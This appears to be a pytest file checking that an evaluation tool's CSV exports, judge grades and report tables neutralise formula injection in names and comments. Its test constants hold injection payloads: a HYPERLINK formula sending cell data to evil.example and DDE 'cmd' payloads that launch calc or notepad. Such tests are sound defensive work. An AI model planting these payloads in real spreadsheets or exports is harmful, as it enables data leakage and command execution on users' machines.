"""Formula injection (OWASP "CSV injection"): every CSV the project writes keeps untrusted text inert.

For each writer, a dangerous annotator name, comment, judge reason or model name goes in and must come out with
a leading ``'`` (no raw cell begins with ``= + - @``, a tab or a carriage return unless it is a number), and
reading the file back the way the project does gives the exact text again.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from owleval.answers import read_answer_file
from owleval.cli import app
from owleval.csvio import formula_like, frame_to_csv, unquote_frame
from owleval.study.export import grades_export_frame
from owleval.study.queue import load_queue, record_grade
from owleval.study.store import Store
from owleval.questions import load_questions
from owleval.report.grades import read_grades
from tests.chat_server import ChatServer
from tests.grading_helpers import make_study, write_answer_files
from tests.report_helpers import synthetic_grades, write_grades_csv

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
CALC = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|'calc'!A0"
MINUS = "-2+3+cmd|' /C notepad'!A0"
TAB = "\t=1+1"
MODEL = "plain-model"


def raw_cells(text: str) -> list[str]:
    """Every cell of a CSV as written (no unquoting)."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_inert(text: str, where: str) -> None:
    live = [c for c in raw_cells(text) if formula_like(c) and not _is_number(c)]
    assert not live, f"{where}: cells a spreadsheet would run: {live}"


def _invoke(*args: str):
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output + repr(result.exception)
    return result


def test_grades_export_and_admin_download_quote_names_and_comments(tmp_path: Path, owl_data: Path) -> None:
    models = (MODEL, "other-model")
    study = make_study(tmp_path, owl_data, ("ann",), qids=(1, 6), models=models)
    store = Store(study.path)
    try:
        with store.write() as conn:  # a name from before check_name refused such names
            conn.execute("UPDATE annotators SET name = ? WHERE name = 'ann'", (CALC,))
        who = store.conn.execute("SELECT annotator_id FROM annotators").fetchone()[0]
        comments = [LINK, MINUS, TAB.strip() + " x", "'quoted already", "＝HYPERLINK(1)", "\u200b=1"]
        for item, comment in zip(load_queue(store, who), comments, strict=False):
            record_grade(store, who, item.answer_id, "B", comment)
        download = frame_to_csv(grades_export_frame(store))  # what the admin page's button sends
    finally:
        store.close()
    out = tmp_path / "grades.csv"
    _invoke("grades", "export", "--db", str(study.path), "--out", str(out))
    text = out.read_text(encoding="utf-8")
    assert text == download
    assert_inert(text, "grades export")
    cells = raw_cells(text)
    assert "'" + CALC in cells and "'" + LINK in cells and "'" + MINUS in cells and "''quoted already" in cells
    back = read_grades(out, load_questions(owl_data))
    assert set(back["annotator"]) == {CALC} and set(back["model_id"]) == set(models)
    assert {LINK, MINUS, "'quoted already"} <= set(back["comment"])


def test_judge_grades_quote_reasons_and_model_names(tmp_path: Path, owl_data: Path) -> None:
    questions = list(load_questions(owl_data))
    write_answer_files(tmp_path / "answers", owl_data, models=(MODEL,), qids=(1,))

    def reply(body: dict) -> str:
        return json.dumps({"grade": "C", "reason": LINK})

    out = tmp_path / "judged"
    with ChatServer(reply=reply) as server:
        _invoke("judge", "--answers", str(tmp_path / "answers"), "--judge", "openai", "--checkpoint", "tiny-vlm",
                "--base-url", server.base_url, "--out", str(out))
    text = (out / "grades.csv").read_text(encoding="utf-8")
    assert_inert(text, "judge grades.csv")
    assert "'" + LINK in raw_cells(text)
    back = read_grades(out / "grades.csv", questions)
    assert back[["model_id", "comment"]].values.tolist() == [[MODEL, LINK]]


@pytest.mark.parametrize("source_quoted", [False, True], ids=["foreign-csv", "our-csv"])
def test_report_tables_quote_names_from_an_imported_grades_csv(source_quoted: bool, tmp_path: Path, owl_data: Path) -> None:
    questions = list(load_questions(owl_data))
    models, annotators = [LINK, AT, "plain-model"], [CALC, MINUS, "bob"]
    grades = synthetic_grades(questions, models, annotators, seed=3, coverage=0.7)
    path = tmp_path / "grades.csv"
    if source_quoted:
        path.write_text(frame_to_csv(grades), encoding="utf-8")
    else:  # as a spreadsheet or another tool would write it: no quoting at all
        write_grades_csv(grades, path)
    out = tmp_path / "report"
    _invoke("report", "--data", str(owl_data), "--grades", str(path), "--out", str(out), "--format", "csv", "--bootstrap", "20")
    written = {p.name: p.read_text(encoding="utf-8") for p in out.glob("*.csv")}
    assert {"summary.csv", "pairwise.csv", "leaderboard.csv", "by_ability.csv", "agreement.csv"} <= set(written)
    for name, text in written.items():
        assert_inert(text, name)
    for name in ("summary.csv", "leaderboard.csv", "by_ability.csv"):
        frame = unquote_frame(pd.read_csv(out / name, dtype=str, keep_default_na=False))
        column = next(c for c in ("model", "model_id") if c in frame.columns)
        assert set(models) <= set(frame[column]), f"{name}: model names do not read back exactly"
    pairwise = unquote_frame(pd.read_csv(out / "pairwise.csv", dtype=str, keep_default_na=False))
    assert set(models) <= set(pairwise.astype(str).stack()), "pairwise.csv: model names do not read back exactly"
    agreement = unquote_frame(pd.read_csv(out / "agreement.csv", dtype=str, keep_default_na=False))
    pairs = set(agreement["annotators"])
    assert any(pair.startswith(CALC) or pair.startswith(MINUS) for pair in pairs), pairs


@pytest.mark.parametrize("model", [MINUS, CALC, AT, LINK])
def test_answer_files_refuse_formula_like_model_names(model: str, tmp_path: Path, owl_data: Path) -> None:
    """Why generate, judge, legacy and study files never carry one: a model name must begin with a letter or digit."""
    question = load_questions(owl_data)[0]
    path = tmp_path / "answers.jsonl"
    row = {"image": question.image, "question_id": 1, "question": question.question, "answer": "x", "model_id": model}
    path.write_text(json.dumps(row) + "\n", encoding="utf-8")
    found = read_answer_file(path, load_questions(owl_data))
    assert [p.field for p in found.errors] == ["model_id"]
